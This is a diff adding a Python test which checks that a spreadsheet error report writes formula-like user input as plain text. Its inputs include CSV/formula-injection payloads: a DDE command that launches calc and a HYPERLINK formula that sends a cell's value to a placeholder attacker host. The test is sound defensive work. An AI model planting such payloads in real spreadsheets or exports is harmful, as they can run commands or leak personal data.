@@ -132,3 +132,26 @@ def test_error_report_leaves_out_characters_a_worksheet_cannot_hold():
     ws = load_workbook(io.BytesIO(build_error_report(GROUP, "CA", apps)))[MEMBERS_SHEET]
     headers = [c.header for c in columns_for("CA")]
     assert ws.cell(FIRST_DATA_ROW, headers.index("SSN") + 1).value == "123-45-6789"
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_never_as_a_formula():
+    import zipfile
+
+    from services.upload.domain import parse_workbook
+    from services.upload.template import TemplateGroup, build_error_report
+    from tests.support import member
+
+    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&G4,"Open")', "+1+1", "-2+3", "@SUM(A1)"]
+    apps = [
+        {"row_number": 4 + n, "cells": member(n, first_name=text, last_name=text), "issues": []}
+        for n, text in enumerate(hostile)
+    ]
+    group = TemplateGroup("230001", '=HYPERLINK("http://evil.example")', "CA", ("=1+1", "0001"))
+    data = build_error_report(group, "CA", apps)
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        xml = b"".join(package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/"))
+    assert b"<f>" not in xml and b"<f " not in xml
+    # read back, the cells are the text that was written
+    sheet = parse_workbook(data, 250)
+    assert [r.cells["first_name"] for r in sheet.rows] == hostile
+    assert sheet.group_name == group.name
